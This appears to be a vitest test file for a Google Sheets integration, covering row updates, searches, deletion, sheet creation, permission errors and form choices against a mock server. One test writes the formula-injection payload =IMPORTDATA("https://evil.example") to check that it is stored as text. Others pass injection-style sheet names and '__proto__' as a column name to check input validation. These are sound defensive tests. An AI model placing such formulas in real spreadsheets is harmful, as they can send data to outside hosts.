import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { account, apiKey, robot } from './connections.js'
import { choices } from './drive-try-out.js'
import { type GoogleServer, startGoogleServer } from './google-server.js'
import type { StoredSpreadsheet } from './google-state.js'
import { act, failureOf } from './try-out.js'

let server: GoogleServer
beforeEach(async () => {
  server = await startGoogleServer()
  keep({
    sheets: {
      People: [
        ['Name', 'Age'],
        ['Ada', 36],
        ['Grace', 85],
        ['ada', 1],
      ],
      "O'Brien": [['x']],
    },
  })
})
afterEach(() => server.close())

type Values = Record<string, unknown>

const keep = (more: Partial<StoredSpreadsheet>) =>
  server.state.spreadsheets.set('book', {
    public: false,
    sheets: {},
    ...server.state.spreadsheets.get('book'),
    ...more,
  })
const rowsOf = (sheet: string, id = 'book') => server.state.spreadsheets.get(id)?.sheets[sheet]
const run = (action: string, input: Values = {}, connection = account()) =>
  act(server, action, { spreadsheet: 'book', sheet: 'People', ...input }, connection)

describe('updating rows', () => {
  it('writes a row by its number, and below it', async () => {
    expect(
      await run('sheets-update', {
        row: 3,
        rows: [
          ['Hopper', 80],
          ['Alan', 41],
        ],
      }),
    ).toEqual({
      range: 'People!A3:B4',
      rows: 2,
      cells: 4,
    })
    expect(rowsOf('People')).toEqual([
      ['Name', 'Age'],
      ['Ada', 36],
      ['Hopper', 80],
      ['Alan', 41],
    ])
  })

  it('changes the named columns of a row alone', async () => {
    await run('sheets-update', { row: 2, rows: [{ Age: 37 }] })
    expect(rowsOf('People')?.[1]).toEqual(['Ada', 37])
    await run('sheets-update', { row: 2, rows: [{ Name: null, Age: '' }] }, robot())
    expect(rowsOf('People')?.[1]).toEqual(['Ada', ''])
  })

  it('writes into a range', async () => {
    await run('sheets-update', { range: 'B2:B3', rows: [[1], [2]] })
    await run('sheets-update', { sheet: undefined, range: "'O''Brien'!A1", rows: [['y']] })
    expect([rowsOf('People')?.[2], rowsOf("O'Brien")]).toEqual([['Grace', 2], [['y']]])
  })

  it('keeps formulas as text unless told otherwise', async () => {
    const rows = [['=IMPORTDATA("https://evil.example")']]
    await run('sheets-update', { range: 'A2', rows })
    expect(rowsOf('People')?.[1]?.[0]).toBe(rows[0]?.[0])
    await run('sheets-update', { range: 'A2', rows: [['=1+1']], values: 'typed' })
    expect(rowsOf('People')?.[1]?.[0]).toEqual({ formula: '=1+1', gives: 0 })
  })

  it.each<[string, Values, string]>([
    ['no place', {}, 'row'],
    ['two places', { row: 2, range: 'A2' }, 'row'],
    ['a number of a row without a sheet', { row: 2, sheet: undefined }, 'sheet'],
    ['objects for a range', { range: 'A2', rows: [{ Name: 'x' }] }, 'rows'],
    ['a sheet twice', { range: 'Other!A2' }, 'range'],
  ])('refuses %s before anything is sent', async (_, input, field) => {
    const error = await failureOf(run('sheets-update', { rows: [['x']], ...input }))
    expect(error).toMatchObject({ code: 'invalid_input', field })
    expect(server.seen).toEqual([])
  })

  it('names the range when the rows do not fit into it', async () => {
    const error = await failureOf(run('sheets-update', { range: 'A2:B2', rows: [[1], [2]] }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'range' })
  })
})

describe('finding rows', () => {
  const find = async (input: Values, connection = account()) => Object(await run('sheets-find-row', input, connection))

  it('tells the first that has the text in a column, with its number', async () => {
    expect(await find({ column: 'Name', value: 'grace' })).toEqual({
      found: true,
      rows: [{ row: 3, values: { Name: 'Grace', Age: '85' } }],
      more: false,
    })
  })

  it('tells all of them, up to a limit', async () => {
    const numbers = async (input: Values) => (await find(input)).rows.map(({ row }: { row: number }) => row)
    expect(await numbers({ column: 'Name', value: 'ada', limit: 10 })).toEqual([2, 4])
    expect(await numbers({ column: 'Name', value: 'ada', limit: 10, ignoreCase: false })).toEqual([4])
    expect(await numbers({ column: 'Name', value: 'A', match: 'contains', limit: 10 })).toEqual([2, 3, 4])
    expect(await find({ column: 'Name', value: 'ada' })).toMatchObject({ rows: { length: 1 }, more: true })
  })

  it('compares what the sheet shows, and finds empty cells', async () => {
    expect(await find({ column: 'Age', value: '85' })).toMatchObject({ rows: [{ row: 3 }] })
    rowsOf('People')?.push(['Alan'])
    expect(await find({ column: 'Age', value: '' })).toMatchObject({ rows: [{ row: 5 }] })
  })

  it('takes the letter of a column, unless one is called so', async () => {
    expect(await find({ column: 'b', value: '85' })).toMatchObject({ found: true })
    keep({
      sheets: {
        People: [
          ['x', 'A'],
          ['1', '2'],
        ],
      },
    })
    expect(await find({ column: 'A', value: '2' })).toMatchObject({ found: true })
  })

  it('says that nothing was found, which is no failure', async () => {
    expect(await find({ column: 'Name', value: 'Nobody' })).toEqual({ found: false, rows: [], more: false })
  })

  it.each(['Colour', 'C', '__proto__', 'ZZZZ'])('names the column when there is no %s', async (column) => {
    expect(await failureOf(find({ column, value: 'x' }))).toMatchObject({ code: 'not_found', field: 'column' })
  })

  it('names the sheet when there is none', async () => {
    const error = await failureOf(find({ sheet: "x'!A1:B9", column: 'A', value: 'x' }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'sheet' })
  })

  it('works with an API key where the spreadsheet is public', async () => {
    expect(await failureOf(find({ column: 'A', value: 'x' }, apiKey()))).toMatchObject({ code: 'permission_denied' })
    keep({ public: true })
    expect(await find({ column: 'Name', value: 'Ada' }, apiKey())).toMatchObject({ found: true })
  })
})

describe('making sheets and spreadsheets', () => {
  const add = (title: string, header: string[]) =>
    act(server, 'sheets-create-sheet', { spreadsheet: 'book', title, header })

  it('adds a sheet with the names of its columns, none of which becomes a formula', async () => {
    const added = await add('Jan', ['Name', '=1+1'])
    expect(added).toEqual({ sheet: 'Jan', sheetId: expect.any(Number) })
    expect(rowsOf('Jan')).toEqual([['Name', '=1+1']])
    expect(server.seen).toHaveLength(1)
  })

  it('names the title when a sheet has it already, and changes nothing', async () => {
    const error = await failureOf(add('People', ['x']))
    expect(error).toMatchObject({
      code: 'invalid_input',
      field: 'title',
      message: expect.stringContaining('already exists'),
    })
    expect(rowsOf('People')).toHaveLength(4)
  })

  it('makes a spreadsheet', async () => {
    const made = await act(
      server,
      'sheets-create-spreadsheet',
      { title: 'Numbers', header: ['Name', 'Age'] },
      account(),
    )
    expect(made).toMatchObject({
      link: expect.stringContaining('https://docs.google.com/'),
      sheet: 'Sheet1',
      sheetId: 0,
    })
    expect(rowsOf('Sheet1', Object(made).id)).toEqual([['Name', 'Age']])
    const again = await act(server, 'sheets-create-spreadsheet', { title: 'Empty', sheet: 'First' }, robot())
    expect(rowsOf('First', Object(again).id)).toEqual([])
  })
})

describe('taking away', () => {
  it('empties a range, and keeps what is around it', async () => {
    expect(await run('sheets-clear', { range: 'B2:B3' })).toEqual({ range: expect.stringMatching(/^People!B2/) })
    expect(rowsOf('People')?.slice(1, 4)).toEqual([
      ['Ada', ''],
      ['Grace', ''],
      ['ada', 1],
    ])
  })

  it('empties a whole sheet, its names too', async () => {
    await run('sheets-clear', {}, robot())
    expect(
      rowsOf('People')
        ?.flat()
        .filter((cell) => cell !== ''),
    ).toEqual([])
  })

  it('deletes rows, and those below move up', async () => {
    expect(await run('sheets-delete-row', { row: 2, count: 2 })).toEqual({ row: 2, rows: 2 })
    expect(rowsOf('People')).toEqual([
      ['Name', 'Age'],
      ['ada', 1],
    ])
  })

  it('deletes from the sheet of the name, though ids are not its place', async () => {
    keep({ ids: { People: 77, "O'Brien": 0 } })
    await run('sheets-delete-row', { row: 4 }, robot())
    expect([rowsOf('People')?.length, rowsOf("O'Brien")]).toEqual([3, [['x']]])
  })

  it.each<[Values, string, string]>([
    [{ sheet: 'people', row: 2 }, 'not_found', 'sheet'],
    [{ row: 5_000 }, 'invalid_input', 'row'],
  ])('of %j deletes nothing', async (input, code, field) => {
    expect(await failureOf(run('sheets-delete-row', input))).toMatchObject({ code, field })
    expect(rowsOf('People')).toHaveLength(4)
  })

  it('is not tried a second time, as another row would go', async () => {
    server.answerNext({
      status: 200,
      body: { spreadsheetId: 'book', sheets: [{ properties: { sheetId: 0, title: 'People' } }] },
    })
    server.answerNext({ status: 503, body: {} })
    expect(await failureOf(run('sheets-delete-row', { row: 2 }))).toMatchObject({ code: 'provider_unavailable' })
    expect(server.seen).toHaveLength(2)
  })
})

it.each<[string, Values]>([
  ['sheets-read', { sheet: 'People' }],
  ['sheets-find-row', { sheet: 'People', column: 'Name', value: 'Ada' }],
  ['sheets-append', { sheet: 'People', rows: [['x']] }],
  ['sheets-create-sheet', { title: 'New' }],
])('%s works for a service account', async (action, input) => {
  expect(await act(server, action, { spreadsheet: 'book', ...input }, robot())).toBeInstanceOf(Object)
})

const WRITES: [string, Values][] = [
  ['sheets-append', { rows: [['x']] }],
  ['sheets-update', { row: 2, rows: [['x']] }],
  ['sheets-clear', {}],
]

describe.each(WRITES)('%s', (action, input) => {
  it('says that cells are protected', async () => {
    keep({ protected: ['People'] })
    const error = await failureOf(run(action, input))
    expect(error).toMatchObject({ code: 'permission_denied', hint: expect.stringContaining('protected range') })
    expect(rowsOf('People')?.[1]).toEqual(['Ada', 36])
  })

  it('says that the account may only look, and needs its scope', async () => {
    const error = await failureOf(run(action, { ...input, spreadsheet: 'sheet-others', sheet: 'Sheet1' }))
    expect(error).toMatchObject({ code: 'permission_denied', field: 'spreadsheet' })
    server.state.tokens.set('ya29.no-rights', { email: 'ada@example.com', sub: '1', scopes: [] })
    const unfit = await failureOf(run(action, input, account({ accessToken: 'ya29.no-rights' })))
    expect(unfit).toMatchObject({ code: 'permission_denied', message: expect.stringContaining('spreadsheets') })
  })

  it('names the sheet or spreadsheet that is not there', async () => {
    const sheet = await failureOf(run(action, { ...input, sheet: 'Sheet9' }))
    expect(sheet).toMatchObject({ code: 'invalid_input' })
    expect(['sheet', 'range']).toContain(sheet.field)
    const spreadsheet = await failureOf(run(action, { ...input, spreadsheet: 'book-9' }))
    expect(spreadsheet).toMatchObject({ code: 'not_found', field: 'spreadsheet' })
  })
})

it.each(WRITES.slice(0, 2))('%s says when a spreadsheet would have too many cells', async (action, input) => {
  keep({ room: 0 })
  const error = await failureOf(run(action, input))
  expect(error).toMatchObject({ code: 'quota_exceeded', hint: expect.stringContaining('ten million') })
})

describe('the choices of a form', () => {
  it('offer the spreadsheets of the account where the connection may use Drive', async () => {
    expect(await choices(server, ['sheets-read', 'spreadsheet'])).toEqual([
      { value: 'sheet-private', title: 'Numbers' },
    ])
    const connection = account({ services: ['sheets'] })
    expect(await choices(server, ['sheets-append', 'spreadsheet'], { connection })).toEqual([])
  })

  it('offer its sheets, and the columns of one', async () => {
    const input = { spreadsheet: 'https://docs.google.com/spreadsheets/d/book/edit#gid=0', sheet: 'People' }
    expect(await choices(server, ['sheets-find-row', 'sheet'], { input })).toEqual([
      { value: 'People', title: 'People' },
      { value: "O'Brien", title: "O'Brien" },
    ])
    const columns = await choices(server, ['sheets-find-row', 'column'], { input })
    expect(columns.map(({ value }) => value)).toEqual(['Name', 'Age'])
  })

  it('offer nothing while the fields they depend on are empty', async () => {
    expect(await choices(server, ['sheets-find-row', 'sheet'])).toEqual([])
    expect(await choices(server, ['sheets-find-row', 'column'], { input: { spreadsheet: 'book' } })).toEqual([])
    expect(server.seen).toEqual([])
  })
})
